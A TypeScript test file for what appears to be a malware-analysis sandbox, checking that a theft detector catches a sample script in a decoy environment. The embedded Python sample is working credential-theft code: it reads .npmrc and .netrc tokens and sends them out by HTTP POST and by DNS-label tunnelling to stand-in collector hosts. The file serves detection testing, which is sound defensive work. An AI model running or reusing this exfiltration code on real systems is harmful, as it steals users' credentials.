/** The world in the real chamber: a sample finds it, and what it takes out of it is proved. */
import assert from "node:assert/strict";
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import test from "node:test";
import { needs } from "@thymus/testkit";
import { createDecoys, openChamber, plainConditions } from "../chamber/index.ts";
import { chamberDir as dataDir, sharedChamber } from "../chamber/testing/shared.ts";
import { createWorld } from "./create.ts";
import { findThefts } from "./theft/find.ts";

const skip = needs("qemu", "bwrap", "root", "apt");

/** Harmless: it takes made secrets out of a made home to a made internet. Each secret goes another way. */
const sample = `import base64, gzip, os, socket, subprocess, urllib.request
home = os.path.expanduser("~")
def read(name):
    with open(os.path.join(home, name)) as file:
        return file.read()
print(len(os.listdir(os.path.join(home, "src"))), os.stat(os.path.join(home, ".npmrc")).st_mode & 0o777)
print(subprocess.run(["ls", home + "/.ssh"], capture_output=True, text=True).stdout.split())
body = base64.b64encode(gzip.compress(read(".npmrc").encode()))
try:
    urllib.request.urlopen("http://drop.test-collector.net/c", data=body, timeout=20).read()
except OSError as error:
    print("http", error)
secret = read(".netrc").split()[-1].encode().hex()
for at in range(0, len(secret), 24):
    try:
        socket.getaddrinfo(secret[at:at + 24] + ".n.test-names.net", 80)
    except OSError as error:
        print("dns", error)
`;

test("a sample sees the world, and what it sends by web and by names is caught", {
  skip,
  timeout: 900_000,
}, async () => {
  const folder = await mkdtemp(join(tmpdir(), "thymus-world-"));
  await sharedChamber();
  const chamber = await openChamber({ dataDir });
  try {
    await mkdir(join(folder, "out"));
    await writeFile(join(folder, "sample"), sample);
    const world = await createWorld("chamber test");
    const result = await chamber.run({
      sample: { path: join(folder, "sample"), name: "report.py", type: "python" },
      decoys: await createDecoys({
        chamberDir: dataDir,
        seed: "world",
        folder: join(folder, "decoys"),
        count: 10,
      }),
      world,
      conditions: plainConditions,
      plan: null,
      drillPrograms: null,
      budgetSeconds: 120,
      outputDir: join(folder, "out"),
    });
    assert.match(result.output, /^7 384\n.*'id_deploy', 'id_deploy\.pub', 'id_ed25519'/);
    const thefts = findThefts(world, result.trace, result.network, result.published);
    const told = new Set(thefts.map(({ credential, how, to }) => `${credential} ${how} ${to ?? ""}`.trim()));
    const story = JSON.stringify({
      thefts,
      output: result.output,
      network: result.network.map((one) => one.what),
    });
    for (const expected of [
      "npm-token read",
      "netrc read",
      "npm-token sent drop.test-collector.net",
      "netrc sent test-names.net",
    ])
      assert.ok(told.has(expected), `${expected} in ${story}`);
    assert.equal(told.size, 4, story);
  } finally {
    await chamber.close();
    await rm(folder, { recursive: true, force: true });
  }
});
